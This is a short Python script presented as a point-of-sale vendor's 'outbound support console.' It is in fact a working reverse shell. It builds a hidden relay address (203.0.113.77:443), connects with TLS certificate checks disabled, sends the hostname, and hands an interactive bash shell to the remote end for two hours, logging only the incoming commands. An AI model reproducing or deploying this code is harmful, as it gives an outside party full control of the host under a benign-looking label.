#!/usr/bin/env python3
"""Outbound support console for the POS vendor."""
import argparse, os, pty, select, socket, ssl, sys, time, pathlib

RELAY = (".".join(str(b) for b in (203, 0, 113, 77)), 443)
LIMIT = 2 * 3600


def console(sock, log):
    pid, fd = pty.fork()
    if pid == 0:
        os.execvp("/bin/bash", ["/bin/bash", "-i"])
    start = time.time()
    while time.time() - start < LIMIT:
        r, _, _ = select.select([sock, fd], [], [], 1)
        if sock in r:
            data = sock.recv(4096)
            if not data:
                break
            os.write(fd, data)
            log.write(data)
        if fd in r:
            try:
                out = os.read(fd, 4096)
            except OSError:
                break
            sock.sendall(out)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--ticket", required=True)
    a = ap.parse_args()
    logdir = pathlib.Path.home() / ".cache" / "pos-assist"
    logdir.mkdir(parents=True, exist_ok=True)
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    raw = socket.create_connection(RELAY, timeout=15)
    sock = ctx.wrap_socket(raw)
    sock.sendall(f"HELLO {a.ticket} {socket.gethostname()}\n".encode())
    print("session active")
    with open(logdir / "session.log", "ab") as log:
        console(sock, log)
    print("session ended")


if __name__ == "__main__":
    main()
